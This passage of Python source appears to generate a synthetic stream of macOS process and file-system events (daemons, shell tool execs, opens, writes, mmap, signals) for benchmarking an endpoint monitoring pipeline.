            f"{rng.randint(1, 400)}.{rng.choice(('pdf', 'png', 'docx', 'txt', 'key', 'heic'))}" for _ in range(300)]
    return {"dev": dev, "spotlight": spotlight, "logd": logd, "prefs": prefs, "caches": caches, "system": system,
            "tmp": tmp, "docs": docs}


def bench(mac: Mac, events: int) -> Iterator[None]:
    """``events`` messages in BENCH_MIX proportions from a machine that has been up for hours."""
    rng = mac.rng
    pools = _bench_paths(rng)
    all_paths = [p for ps in pools.values() for p in ps]
    # The long-lived processes, already running when the recording starts (no fork/exec seen).
    mac.next_pid, mac.next_pidversion = 41_200, 152_000
    long_lived: list[tuple[Proc, float, list[str]]] = []

    def existing(path: str, sid: str, weight: float, pool: list[str], uid: int = ALICE, team=None, kind="platform",
                 threads: int = 4, label: str | None = None) -> Proc:
        img = mac.image(path, sid, team, kind)
        p = Proc(mac.alloc_pid(), mac.alloc_pidversion(), img, mac.now - int(rng.uniform(60, 18_000) * 1e9), mac.launchd)
        p.pgid = p.sid = p.pid
        if uid == ALICE:
            p.user(ALICE, GID_STAFF)
            p.auid, p.asid = ALICE, GUI_ASID
        elif uid:
            p.user(uid, GID_WHEEL)
        p.threads = [mac.tid() for _ in range(threads)]
        p.cwd = mac.dir("/")
        p.label = label
        mac.launchd.children.add(p)
        mac.procs[p.pid] = p
        long_lived.append((p, weight, pool))
        return p

    existing(METADATA + "mds_stores", "com.apple.mds_stores", 14, pools["spotlight"], uid=0)
    existing(METADATA + "mds", "com.apple.mds", 4, pools["spotlight"], uid=0)
    for _ in range(3):
        existing(METADATA + "mdworker_shared", "com.apple.mdworker_shared", 3, pools["docs"] + pools["dev"])
    existing("/usr/libexec/logd", "com.apple.logd", 10, pools["logd"], uid=0)
    existing("/usr/sbin/cfprefsd", "com.apple.cfprefsd", 6, pools["prefs"], uid=0)
    existing("/usr/sbin/cfprefsd", "com.apple.cfprefsd", 8, pools["prefs"])
    existing("/usr/libexec/runningboardd", "com.apple.runningboardd", 3, pools["tmp"], uid=0)
    existing("/System/Library/CoreServices/Spotlight.app/Contents/MacOS/Spotlight", "com.apple.Spotlight", 4,
             pools["caches"] + pools["spotlight"])
    existing("/System/Library/PrivateFrameworks/SkyLight.framework/Versions/A/Resources/WindowServer",
             "com.apple.WindowServer", 2, pools["system"], uid=88)
    existing(SAFARI, "com.apple.Safari", 4, pools["caches"])
    existing(WEBKIT_XPC.format("com.apple.WebKit.Networking"), "com.apple.WebKit.Networking", 6, pools["caches"])
    for _ in range(4):
        existing(WEBKIT_XPC.format("com.apple.WebKit.WebContent"), "com.apple.WebKit.WebContent", 2, pools["system"])
    existing("/Applications/Slack.app/Contents/MacOS/Slack", "com.tinyspeck.slackmacgap", 3, pools["caches"],
             team="EXAMPLESLK", kind="devid")
    existing("/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper (Plugin).app/Contents/MacOS/Code Helper (Plugin)",
             "com.microsoft.VSCode.helper.plugin", 8, pools["dev"], team="EXAMPLEVSC", kind="devid")
    existing("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "com.apple.finder", 2, pools["docs"])
    for name in ("fseventsd", "opendirectoryd", "trustd", "syspolicyd", "bird", "cloudd", "nsurlsessiond", "sharingd",
                 "distnoted", "lsd", "tccd", "powerd", "bluetoothd", "airportd", "configd", "notifyd"):
        existing(f"/usr/libexec/{name}", f"com.apple.{name}", 0.5, pools["system"] + pools["prefs"],
                 uid=0 if name in ("fseventsd", "opendirectoryd", "syspolicyd", "powerd", "configd", "notifyd") else ALICE)
    terminal = existing(TERMINAL, "com.apple.Terminal", 1, pools["prefs"])
    tty = mac.file("/dev/ttys001", mode=0o20620, uid=ALICE, gid=GID_TTY, size=0)
    shells = []
    for i in range(3):
        sh = existing("/bin/zsh", "com.apple.zsh", 0.5, pools["dev"], threads=1)
        sh.parent, sh.ppid, sh.original_ppid = terminal, terminal.pid, terminal.pid
        sh.tty, sh.cwd = tty, mac.dir(f"{HOME}/src/" + ("osq-demo", "web-frontend", "payments-api")[i])
        sh.resp_token = terminal.token()
        sh.env = shell_env("/dev/ttys001", sh.cwd.path)
        shells.append(sh)
    launchers = shells + [mac.launchd]
    procs = [p for p, _, _ in long_lived]
    cum_weights = list(itertools.accumulate(w for _, w, _ in long_lived))
    pool_of = {id(p): pool for p, _, pool in long_lived}
    jobs: list[Proc] = []
    plans: dict[int, list] = {}
    third = [mac.image(path, sid, team, kind) for path, sid, team, kind in BENCH_THIRD_PARTY]
    mdworker = mac.image(METADATA + "mdworker_shared", "com.apple.mdworker_shared")
    temp_files: list[str] = []

    random = rng.random

    def actor() -> Proc:
        if jobs and random() < 0.15:
            return jobs[int(random() * len(jobs))]
        return rng.choices(procs, cum_weights=cum_weights)[0]

    def path_for(p: Proc) -> str:
        pool = pool_of.get(id(p))
        if pool is None or random() < 0.2:
            pool = all_paths
        if random() < 0.5:  # a few hot files, a long tail
            return pool[min(int(rng.paretovariate(0.9)) - 1, len(pool) - 1)]
        return pool[int(random() * len(pool))]

    def do_fork() -> None:
        parent = launchers[rng.randrange(len(launchers))]
        child = mac.fork(parent, self_responsible=parent is mac.launchd, new_session=parent is mac.launchd,
                         new_group=parent is not mac.launchd)
        jobs.append(child)
        if parent is mac.launchd:
            label = f"com.apple.mdworker.shared.{_hex(rng, 8)}-0000-0000-0000-000000000000"
            plans[child.pid] = [(mac.image("/usr/libexec/xpcproxy", "com.apple.xpc.proxy"), ["xpcproxy", label], ()),
                                (mdworker, [mdworker.path, "-s", "mdworker", "-c", "MDSImporterWorker", "-m",
                                            "com.apple.mdworker.shared"],
                                 (f"XPC_SERVICE_NAME={label}", "PATH=/usr/bin:/bin:/usr/sbin:/sbin", "XPC_FLAGS=0x1"))]
        else:
            plans[child.pid] = _tool_plan(mac, rng, third, parent)

    def do_exec() -> bool:
        for j in jobs:  # the oldest job with something left to exec
            plan = plans.get(j.pid)
            if plan:
                img, args, env = plan.pop(0)
                mac.exec(j, img, args, env or j.env, fds=_tty_fds(rng.choice((0, 0, 3, 10))))
                return True
        return False

    def do_exit() -> bool:
        for i, j in enumerate(jobs):  # the oldest job that has run its plan
            if j.execs and not plans.get(j.pid):
                del jobs[i]
                plans.pop(j.pid, None)
                r = rng.random()
                mac.exit(j, 0 if r < 0.85 else 1, signal=15 if r > 0.98 else 0)
                return True
        return False

    names = [n for n, _ in BENCH_MIX]
    cum = [w for _, w in BENCH_MIX]
    ops = rng.choices(names, cum, k=1024)
    k = 0
    while mac.emitted < events:
        if k == len(ops):
            ops, k = rng.choices(names, cum, k=1024), 0
            yield
        op = ops[k]
        k += 1
        if op == "open":
            p = actor()
            mac.open(p, path_for(p), rng.choice((FREAD, FREAD | O_CLOEXEC, FREAD | O_CLOEXEC, FREAD | FWRITE,
                                                 FWRITE | O_CREAT | O_TRUNC, FWRITE | FAPPEND, FREAD | 0x4)))
        elif op == "write":
            p = actor()
            mac.write(p, path_for(p), rng.choice((512, 4096, 8192, 65536)))
        elif op == "close":
            p = actor()
            mac.close(p, path_for(p), modified=rng.random() < 0.4, mapped_writable=rng.random() < 0.05)
        elif op == "exec":
            if not do_exec():
                do_fork()
        elif op == "fork":
            if len(jobs) < 64 or not do_exit():  # keep the process table bounded
                do_fork()
        elif op == "exit":
            if not do_exit() and not do_exec():
                do_fork()
        elif op == "iokit_open":
            p = actor()
            mac.iokit_open(p, rng.choice(IOKIT_CLASSES), rng.choice((0, 0, 1, 2)), 0x1000_0000 + rng.getrandbits(16),
                           f"IOService:/AppleARMPE/arm-io@10F00000/AppleT810xIO/{rng.choice(('dcp', 'ans', 'mtp', 'sep', 'aop', 'gfx'))}@{_hex(rng, 8)}")
        elif op == "create":
            p = actor()
            path = f"/private{TMPDIR}/TemporaryItems/NSIRD_{p.image.path.rsplit('/', 1)[-1]}_{_hex(rng, 6)}/tmp.{_hex(rng, 8).lower()}"
            mac.create(p, path, 0o644)
            temp_files.append(path)
        elif op == "rename":
            p = actor()
            if temp_files:
                src = temp_files.pop(rng.randrange(len(temp_files)))
                mac.rename(p, src, path_for(p))
            else:
                src = path_for(p)
                mac.rename(p, src, src + ".bak")
        elif op == "unlink":
            p = actor()
            mac.unlink(p, temp_files.pop() if temp_files else path_for(p))
        elif op == "mmap":
            p = actor()
            mac.mmap(p, rng.choice(pools["system"]), protection=rng.choice((1, 3, 5)), max_protection=7,
                     flags=rng.choice((0x1, 0x2, 0x12)), file_pos=rng.getrandbits(12) * 0x4000)
        elif op == "mprotect":
            p = actor()
            mac.mprotect(p, 0x1_0000_0000 + rng.getrandbits(30) * 0x4000, 0x4000 * rng.randint(1, 256), rng.choice((1, 3, 5)))
        elif op == "signal":
            if jobs:
                target = jobs[rng.randrange(len(jobs))]
                sender = target.parent if target.parent is not None and target.parent is not mac.launchd else terminal
                mac.signal(sender, target, rng.choice((2, 15, 1, 30)))
            else:
                mac.signal(mac.launchd, procs[rng.randrange(len(procs))], 30)
        elif op == "setmode":
            p = actor()
            mac.setmode(p, path_for(p), rng.choice((0o644, 0o600, 0o755)))
    yield


def _tool_plan(mac: Mac, rng, third: list, parent: Proc) -> list:
    """What a shell child execs: a shim then the real tool (xcrun-style), or one binary."""
    env = _last_command(parent.env, "/usr/bin/env") if parent.env else ()
    env_tool = mac.image("/usr/bin/env", "com.apple.env")
    if rng.random() < 0.25:  # a "#!/usr/bin/env node" script: env, then the interpreter
        img = third[rng.randrange(len(third))]
        name = img.path.rsplit("/", 1)[-1]
        args = _args(rng, name)
        return [(env_tool, ["/usr/bin/env", name] + args, env), (img, [name] + args, env)]
    shim, real, sid = BENCH_TOOLS[rng.randrange(len(BENCH_TOOLS))]
    name = shim.rsplit("/", 1)[-1]
    args = [name] + _args(rng, name)
    plan = [(mac.image(shim, sid), args, env)]
    if real:  # an xcrun-style shim hands over to the real tool
        plan.append((mac.image(real, sid), [real] + args[1:], env + ("SDKROOT=/Library/Developer/CommandLineTools/SDKs/MacOSX.sdk",)))
    elif rng.random() < 0.6:
        plan.insert(0, (env_tool, ["/usr/bin/env"] + args, env))
    return plan


def _args(rng, name: str) -> list[str]:
    src = f"{HOME}/src/payments-api"
    if name in ("clang", "xcrun"):  # compiler lines are long
        return (["-cc1", "-triple", "arm64-apple-macosx15.0.0", "-emit-obj", "-O2", "-fno-omit-frame-pointer"]
                + [f"-I{src}/include/{_hex(rng, 4).lower()}" for _ in range(rng.randint(10, 40))]
                + [f"-D{_hex(rng, 6)}=1" for _ in range(rng.randint(2, 12))]
                + ["-o", f"/private{TMPDIR}/{_hex(rng, 8).lower()}.o", f"{src}/src/{_hex(rng, 6).lower()}.c"])
    if name == "git":
        return rng.choice((["status", "--porcelain=v2", "--branch"], ["rev-parse", "--show-toplevel"],
                           ["log", "-n", "20", "--format=%H %s"], ["diff", "--cached", "--stat"],
                           ["fetch", "--prune", "origin"]))
    if name in ("node", "python3"):
        return [f"{src}/scripts/{_hex(rng, 5).lower()}.{'js' if name == 'node' else 'py'}", "--config",
                f"{src}/config/{rng.choice(('dev', 'ci', 'prod'))}.json", "--verbose"]
    return [f"{src}/{_hex(rng, 6).lower()}" for _ in range(rng.randint(1, 4))]


SCENARIOS = {"demo": (demo, 2500), "bench": (bench, 100_000)}
